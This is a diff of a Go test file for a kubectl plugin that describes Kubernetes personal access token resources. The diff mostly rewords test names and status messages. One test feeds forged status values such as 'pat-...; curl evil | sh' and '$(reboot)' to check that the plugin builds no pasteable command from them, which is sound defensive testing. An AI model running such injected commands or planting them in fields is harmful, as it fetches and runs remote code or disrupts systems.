@@ -37,7 +37,7 @@ import (
 	"github.com/pat-operator/pat-operator/internal/lifecycle"
 )
 
-// rich is a resource with something everywhere.
+// rich is a resource with all fields.
 func rich() *v1alpha1.PersonalAccessToken {
 	pat := withConditions(3, isReady, isActive)
 	pat.CreationTimestamp = *after(-40 * day)
@@ -60,7 +60,7 @@ func rich() *v1alpha1.PersonalAccessToken {
 	pat.Status.FirstUsedAt, pat.Status.LastUsedAt = after(-30*time.Minute), after(-time.Minute)
 	pat.Status.EncryptedToken, pat.Status.PreviousTokenExpiresAt = "sealed", after(time.Hour)
 	pat.Status.Revoked = []v1alpha1.RevokedToken{{TokenID: "cccccccccccccccc", At: after(-day), By: "bob", Reason: "on a slide"}, {TokenID: "dddddddddddddddd"}}
-	pat.Status.Conditions[1].Message = "Token bbbbbbbbbbbbbbbb authenticates as alice until 2026-12-24T12:00:00Z, and beside it its predecessor aaaaaaaaaaaaaaaa until 2026-11-24T13:00:00Z; delete this resource to revoke it."
+	pat.Status.Conditions[1].Message = "Token bbbbbbbbbbbbbbbb authenticates as alice until 2026-12-24T12:00:00Z, as does its predecessor aaaaaaaaaaaaaaaa until 2026-11-24T13:00:00Z; delete this resource to revoke it."
 	pat.Status.Conditions[1].LastTransitionTime = *after(-time.Hour)
 	pat.Status.Conditions[0].Message = "Done."
 	return pat
@@ -88,7 +88,7 @@ Made By:         the operator, which encrypts it
                  age1y
   Open It With:  kubectl pat decrypt ci -n team-a -i KEYFILE
 Status:          Active
-                 Token bbbbbbbbbbbbbbbb authenticates as alice until 2026-12-24T12:00:00Z, and beside it its predecessor aaaaaaaaaaaaaaaa until 2026-11-24T13:00:00Z; delete this resource to revoke it.
+                 Token bbbbbbbbbbbbbbbb authenticates as alice until 2026-12-24T12:00:00Z, as does its predecessor aaaaaaaaaaaaaaaa until 2026-11-24T13:00:00Z; delete this resource to revoke it.
 Suspended:       no
 Created:         2026-10-15T12:00:00Z (40d ago)
 Issued:          2026-11-24T11:00:00Z (60m ago)
@@ -101,9 +101,9 @@ Audiences:       a
 Scopes:          read
                  get,list pods in API groups "","apps" in namespaces team-a
                  get at /version
-Rotation:        asked for by trigger 2
+Rotation:        requested by trigger 2
                  every 30 days
-                 a predecessor is honoured for 120m
+                 a predecessor keeps working for 120m
                  a predecessor ends when its successor is first used
 Revoked:         cccccccccccccccc at 2026-11-23T12:00:00Z (24h ago) by bob: on a slide
                  dddddddddddddddd
@@ -111,7 +111,7 @@ Conditions:
   Type    Status  Reason      Since    Message
   ----    ------  ------      -----    -------
   Ready   True    Reconciled  unknown  Done.
-  Active  True    Active      60m      Token bbbbbbbbbbbbbbbb authenticates as alice until 2026-12-24T12:00:00Z, and beside it its predecessor aaaaaaaaaaaaaaaa until 2026-11-24T13:00:00Z; delete this resource to revoke it.
+  Active  True    Active      60m      Token bbbbbbbbbbbbbbbb authenticates as alice until 2026-12-24T12:00:00Z, as does its predecessor aaaaaaaaaaaaaaaa until 2026-11-24T13:00:00Z; delete this resource to revoke it.
 Events:
   Type     Reason        Age       Message
   ----     ------        ---       -------
@@ -127,7 +127,7 @@ Events:
 	}
 }
 
-func TestDescribeSaysWhyAndTheWayOut(t *testing.T) {
+func TestDescribeSaysWhyAndWhatToDo(t *testing.T) {
 	suspended := metav1.Condition{Type: v1alpha1.ConditionActive, Status: metav1.ConditionFalse, Reason: v1alpha1.ReasonSuspended, Message: "Resume it."}
 	waiting := metav1.Condition{Type: v1alpha1.ConditionActive, Status: metav1.ConditionFalse, Reason: v1alpha1.ReasonIssuing, Message: "Wait."}
 	for name, tc := range map[string]struct {
@@ -138,17 +138,17 @@ func TestDescribeSaysWhyAndTheWayOut(t *testing.T) {
 		"suspended":     {withConditions(2, isReady, suspended), "Suspended|Resume it."},
 		"issuing":       {withConditions(2, isIssuing, waiting), "Pending|Wait."},
 		"stalled":       {withConditions(2, isStalled, waiting), `Not issued|Wait.|Too many\x1b[31m.`},
-		"not looked at": {withConditions(2), "Pending|The operator has not looked at it; is it running?"},
-		"changed":       {func() *v1alpha1.PersonalAccessToken { p := withConditions(2, suspended); p.Generation = 3; return p }(), "Suspended|Resume it.|The operator has not looked at the last change yet."},
+		"not looked at": {withConditions(2), "Pending|The operator has not processed it yet; is it running?"},
+		"changed":       {func() *v1alpha1.PersonalAccessToken { p := withConditions(2, suspended); p.Generation = 3; return p }(), "Suspended|Resume it.|The operator has not processed the last change yet."},
 		"expired": {func() *v1alpha1.PersonalAccessToken {
 			p := withConditions(2, metav1.Condition{Type: v1alpha1.ConditionActive, Status: metav1.ConditionFalse, Reason: v1alpha1.ReasonExpired, Message: "It has expired."})
 			return p
 		}(), "Expired|It has expired.|For a new token run: kubectl pat rotate ci -n team-a"},
-		"expired just now": {func() *v1alpha1.PersonalAccessToken {
+		"just expired": {func() *v1alpha1.PersonalAccessToken {
 			p := withConditions(2, isReady, isActive)
 			p.Status.ExpiresAt = after(0)
 			return p
-		}(), "Expired|The operator has not written this into its status yet.|For a new token run: kubectl pat rotate ci -n team-a"},
+		}(), "Expired|The operator has not updated the status yet.|For a new token run: kubectl pat rotate ci -n team-a"},
 		"about to be gone": {func() *v1alpha1.PersonalAccessToken {
 			p := withConditions(2, isActive)
 			p.DeletionTimestamp = after(0)
@@ -158,13 +158,13 @@ func TestDescribeSaysWhyAndTheWayOut(t *testing.T) {
 			p := withConditions(1)
 			p.Status.ObservedGeneration = -1
 			return p
-		}(), "Pending|The operator has not looked at it; is it running?"},
+		}(), "Pending|The operator has not processed it yet; is it running?"},
 	} {
 		t.Run(name, func(t *testing.T) {
 			if tc.pat.Status.ObservedGeneration == 0 {
 				tc.pat.Status.ObservedGeneration = 2
 			}
-			s := newSheet()
+			s := newDescribeWriter()
 			describeStatus(s, tc.pat, start)
 			var lines []string
 			for line := range strings.Lines(strings.TrimPrefix(s.String(), "Status:")) {
@@ -177,7 +177,7 @@ func TestDescribeSaysWhyAndTheWayOut(t *testing.T) {
 	}
 }
 
-func TestDescribeLittle(t *testing.T) {
+func TestDescribeAnEmptyResource(t *testing.T) {
 	pat := &v1alpha1.PersonalAccessToken{ObjectMeta: metav1.ObjectMeta{Name: "new", Namespace: "team-a", CreationTimestamp: *after(-time.Second)}}
 	got := describe(pat, nil, false, start)
 	for _, want := range []string{"User: nobody yet", "Token ID: none yet", "Issued: not yet", "Expires: 90 days after it is issued", "Last Used: never", "Audiences: the API server", "Conditions: <none>"} {
@@ -222,12 +222,12 @@ func TestDescribeSeveralOfWhichSomeAreMissing(t *testing.T) {
 	tr.run(t.Context(), t, exitError, "describe", "a", "ci", "b", "-n", "team-a")
 	tr.errs(t, `error: personalaccesstokens.pat-operator.io "a" not found in namespace team-a; personalaccesstokens.pat-operator.io "b" not found in namespace team-a`)
 	if !strings.Contains(tr.out.String(), "Name:") {
-		t.Errorf("the one that is there is not told of: %s", tr.out)
+		t.Errorf("the existing one is not described: %s", tr.out)
 	}
 }
 
-// Whoever may write a status may put anything there, and people paste commands.
-func TestDescribeBuildsNoCommandOfAnybodysText(t *testing.T) {
+// A user who may write status can put any text there, and people paste commands.
+func TestDescribeBuildsNoCommandFromForgedStatus(t *testing.T) {
 	for name, want := range map[string]bool{
 		"pat-aaaaaaaaaaaaaaaa": true, "pat-aaaaaaaaaaaaaaaa; curl evil | sh": false, "$(reboot)": false, "pat-$(reboot)aaaaaaa": false,
 		"aaaaaaaaaaaaaaaa": false, "-A": false, "pat-AAAAAAAAAAAAAAAA": false,
@@ -245,7 +245,7 @@ func TestDescribeBuildsNoCommandOfAnybodysText(t *testing.T) {
 }
 
 // list -o name | xargs kubectl pat describe
-func TestWhatReadsTakesNamesAsListPrintsThem(t *testing.T) {
+func TestCommandsTakeNamesAsListPrintsThem(t *testing.T) {
 	pat, _ := holderMade(t, 7)
 	for _, name := range []string{"pat/ci", "personalaccesstoken.pat-operator.io/ci", "ci"} {
 		tr := newTrial(t, interceptor.Funcs{}, pat)
@@ -259,7 +259,7 @@ func TestWhatReadsTakesNamesAsListPrintsThem(t *testing.T) {
 			t.Fatal(err)
 		}
 		tr.run(t.Context(), t, exitError, "decrypt", name, "-n", "team-a", "-i", key)
-		tr.errs(t, "error: team-a/ci has no encrypted token: its holder has made it, and nobody else ever had it")
+		tr.errs(t, "error: team-a/ci has no encrypted token: its holder made it, and nobody else has it")
 	}
 }
 
@@ -271,7 +271,7 @@ func TestDescribeOffersNoSecretThatIsGone(t *testing.T) {
 	secrets := corev1.SchemeGroupVersion.WithResource("secrets").GroupResource()
 	for want, err := range map[string]error{
 		"  Secret:        " + name + "\n  Take It With:  kubectl get secret " + name + " -n team-a": nil,
-		"  Secret:    gone: the token was taken, or not in time\nStatus:":                           apierrors.NewNotFound(secrets, name),
+		"  Secret:    gone: the token was taken, or its time ran out\nStatus:":                      apierrors.NewNotFound(secrets, name),
 		"  Secret:        " + name + "\n  Take It With:  kubectl get secret ":                       apierrors.NewForbidden(secrets, name, nil),
 	} {
 		tr := newTrial(t, interceptor.Funcs{Get: func(ctx context.Context, c client.WithWatch, key client.ObjectKey, o client.Object, opts ...client.GetOption) error {
